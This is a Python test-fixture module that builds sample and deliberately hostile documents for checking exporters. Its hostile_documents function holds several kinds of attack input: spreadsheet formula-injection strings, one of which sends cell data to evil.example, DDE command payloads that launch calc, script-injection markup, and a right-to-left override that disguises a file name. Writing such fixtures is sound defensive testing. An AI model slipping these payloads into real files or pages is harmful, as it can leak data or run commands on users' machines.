"""Documents to test exporters with: built by hand, generated in bulk, or hostile.

``make_document`` builds one consistent Document (edits, blocks and offsets that agree)
from paragraphs; ``sample_documents`` many ordinary ones; ``hostile_documents`` the text
that breaks exporters in practice (formulas, ``<script>``, RTL, NUL, lone surrogates...).
"""

from __future__ import annotations

import itertools
import re
from collections.abc import Iterator, Mapping, Sequence

from corpuskit.edits import Edit, apply_edits
from corpuskit.model import Block, Document, DocumentWarning, Role, Source

__all__ = ["HUGE_LINE_CHARS", "hostile_documents", "iter_sample_documents", "make_document", "sample_documents"]


def make_document(
    paragraphs: Sequence[str],
    *,
    doc_id: str = "000_0123456789abcdef",
    name: str | None = None,
    title: str | None = None,
    authors: Sequence[str] = (),
    date: str | None = None,
    dateline: str | None = None,
    trailer: Sequence[tuple[str, str]] = (),
    path: str = "corpus.txt",
    offset: int = 0,
    typos: Mapping[str, str] | None = None,
    role: Role = "document",
    metadata: Mapping[str, str] | None = None,
    warnings: Sequence[DocumentWarning] = (),
) -> Document:
    """A well-formed Document with header, body and trailer blocks, and real edits.

    The cleaned text is the blocks joined by blank lines. ``raw_text`` differs from it
    by a no-break space for the first space of each paragraph (``unicode.nbsp``) and
    by the first few whole-word ``typos`` corrections (``typo.known``; ``{wrong: right}``
    of equal length), so
    the edits are genuine: applying them to ``raw_text`` gives the cleaned text.
    """
    parts = _parts(paragraphs, title, authors, date, dateline, trailer)
    cleaned, blocks = _lay_out(parts)
    raw_text, edits = _with_edits_undone(cleaned, blocks, typos or {})
    index, key = _index_and_key(doc_id)
    return Document(
        id=doc_id,
        name=name if name is not None else doc_id + ".txt",
        source=Source(path=path, offset=offset, length=len(raw_text.encode("utf-8", "surrogatepass"))),
        raw_text=raw_text,
        edits=edits,
        blocks=blocks,
        title=title,
        authors=tuple(authors),
        date=date,
        dateline=dateline,
        warnings=warnings,
        index=index,
        key=key,
        role=role,
        metadata=metadata,
    )


def _parts(
    paragraphs: Sequence[str], title: str | None, authors: Sequence[str], date: str | None,
    dateline: str | None, trailer: Sequence[tuple[str, str]],
) -> list[tuple[str, str, str]]:
    """(kind, region, text) of each block in reading order: header fields, body, trailer."""
    parts: list[tuple[str, str, str]] = []
    if title is not None:
        parts.append(("title", "header", title))
    if authors:
        parts.append(("byline", "header", "By " + " and ".join(authors)))
    if date is not None:
        parts.append(("date", "header", date))
    if dateline is not None:
        parts.append(("dateline", "header", dateline))
    parts += [("paragraph", "body", p) for p in paragraphs]
    parts += [(kind, "trailer", text) for kind, text in trailer]
    return parts


def _lay_out(parts: Sequence[tuple[str, str, str]]) -> tuple[str, list[Block]]:
    """The cleaned text (the parts joined by blank lines) and its blocks, trimmed."""
    blocks: list[Block] = []
    pieces: list[str] = []
    pos = 0
    for kind, region, text in parts:
        if pieces:
            pieces.append("\n\n")
            pos += 2
        stripped = text.strip()
        if stripped:  # blocks are trimmed; surrounding whitespace lies between blocks
            lead = pos + len(text) - len(text.lstrip())
            blocks.append(Block(kind, region, lead, lead + len(stripped), stripped))
        pieces.append(text)
        pos += len(text)
    return "".join(pieces), blocks


def _with_edits_undone(cleaned: str, blocks: Sequence[Block], typos: Mapping[str, str]) -> tuple[str, list[Edit]]:
    """A raw text the edits turn into ``cleaned``, and the edits (sorted): a no-break space
    for the first space of each body block, and the first few of each typo."""
    raw = list(cleaned)
    edits: list[Edit] = []
    for block in blocks:
        if block.region == "body" and " " in block.text:
            at = block.start + block.text.index(" ")
            raw[at] = "\u00a0"
            edits.append(Edit("unicode.nbsp", at, at + 1, "\u00a0", " "))
    for wrong, right in typos.items():
        if len(wrong) != len(right):
            raise ValueError("make_document typos must keep the length")
        for m in itertools.islice(re.finditer(rf"\b{re.escape(right)}\b", cleaned), 3):  # a few suffice
            start, end = m.span()
            if all(not (e.start < end and start < e.end) for e in edits):
                raw[start:end] = wrong
                edits.append(Edit("typo.known", start, end, wrong, right))
    edits.sort(key=lambda e: e.start)
    raw_text = "".join(raw)
    assert apply_edits(raw_text, edits) == cleaned
    return raw_text, edits


def _index_and_key(doc_id: str) -> tuple[int | None, str | None]:
    """``index`` and ``key`` of an id of the form ``NNN_<hex>``, else None and None."""
    index, _, key = doc_id.partition("_")
    if index.isdigit() and all(c in "0123456789abcdef" for c in key) and bool(key):
        return int(index), key
    return None, None


_WORDS = [
    "the", "council", "met", "on", "tuesday", "to", "discuss", "the", "budget", "and", "the", "new",
    "bridge", "across", "the", "river", "while", "residents", "said", "they", "had", "waited", "years",
]


def _paragraph(start: int, words: int) -> str:
    """``words`` words cycling through the vocabulary from ``start`` (built at C speed)."""
    k = start % len(_WORDS)
    loop = _WORDS[k:] + _WORDS[:k]
    whole, rest = divmod(words, len(loop))
    text = " ".join(loop) + " "
    return ((text * whole) + " ".join(loop[:rest])).strip().capitalize() + "."


def iter_sample_documents(count: int, *, paragraph_words: int = 40, paragraphs: int = 3) -> Iterator[Document]:
    """Like :func:`sample_documents`, built one at a time (for streaming and memory tests)."""
    for i in range(count):
        body = [_paragraph(i + p, paragraph_words) for p in range(paragraphs)]
        has_header = i % 3 != 2
        yield make_document(
            body,
            doc_id=f"{i:03d}_{i * 7919:016x}",
            title=f"Article {i}: the bridge, again" if has_header else None,
            authors=("Ann Lee", "Bo Diaz") if i % 2 == 0 else (),
            date=f"2021-03-{i % 28 + 1:02d}" if has_header else None,
            dateline="Springfield" if i % 2 else None,
            trailer=(("bio", "Ann Lee covers city hall."),) if i % 4 == 0 else (),
            path="sample.txt",
            offset=i * 1000,
            typos={"teh": "the"},
        )


def sample_documents(count: int = 5, *, paragraph_words: int = 40, paragraphs: int = 3) -> list[Document]:
    """``count`` ordinary, distinct articles (some without header fields), deterministic."""
    return list(iter_sample_documents(count, paragraph_words=paragraph_words, paragraphs=paragraphs))


HUGE_LINE_CHARS = 1 << 20


def hostile_documents() -> list[Document]:
    """Documents built to break naive exporters; each is still a valid document.

    Covers: spreadsheet formulas in every text field, ``<script>`` and markup
    terminators, RTL overrides and bidi text, NUL and other control characters, lone
    surrogates in names and paths (what ``surrogateescape`` makes of undecodable file
    names), CRLF and Unicode line separators, a BOM in the text, astral characters,
    quotes and delimiters, an empty document, a preamble record and a 1 MB line.
    """
    return [
        make_document(
            ['=HYPERLINK("http://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
            doc_id="000_00000000000000f0",
            title='=HYPERLINK("http://evil.example","Click")',
            authors=("=cmd|' /C calc'!A0", "@evil", "\rCR-led author"),
            dateline="\tTab-led dateline",
            trailer=(("comment", "-1 great article"), ("spam", "+Plus-led spam")),
        ),
        make_document(
            ["<script>alert(1)</script> and <img src=x onerror=alert(2)>", "]]> --> </p></body> {{ x }} ${x} %s"],
            doc_id="001_00000000000000f1",
            title="<script>alert('title')</script>",
            authors=("</title><script>alert(3)</script>",),
        ),
        make_document(
            ["\u202eevil\u202c text, مرحبا بالعالم and שלום עולם \u2066isolated\u2069", "mixed עברית and English."],
            doc_id="002_00000000000000f2",
            title="\u202egnp.exe",
        ),
        make_document(
            ["NUL \x00 here, bell \x07, escape \x1b[31m, DEL \x7f and C1 \x85 \x9b", "form\x0cfeed and \x0bvtab"],
            doc_id="003_00000000000000f3",
            title="Nul\x00title",
        ),
        make_document(
            ["A name that did not decode."],
            doc_id="004_caf\udce9",
            name="004_caf\udce9.txt",
            path="dump/\udcff\udcfe/corpus.txt",
            metadata={"origin": "caf\udce9"},
        ),
        make_document(
            [
                "windows\r\nline\r\nends and a lone\rCR",
                "line\u2028separator and paragraph\u2029separator",
                "\ufeffBOM inside",
            ],
            doc_id="005_00000000000000f5",
            title='"Quoted", with; delimiters\t|pipes| and \\backslashes\\',
        ),
        make_document(
            ["Astral 🦄𝔘𝔫𝔦𝔠𝔬𝔡𝔢 and combining e\u0301 and zero\u200bwidth", "# not a heading * not a list _x_ [a](b)"],
            doc_id="006_00000000000000f6",
            title="# Heading? **bold** `code`",
        ),
        make_document([], doc_id="007_00000000000000f7"),
        make_document(["Text before the first delimiter."], doc_id="008_preamble", role="preamble"),
        make_document(["x" * HUGE_LINE_CHARS], doc_id="009_00000000000000f9", title="A one-megabyte line"),
    ]
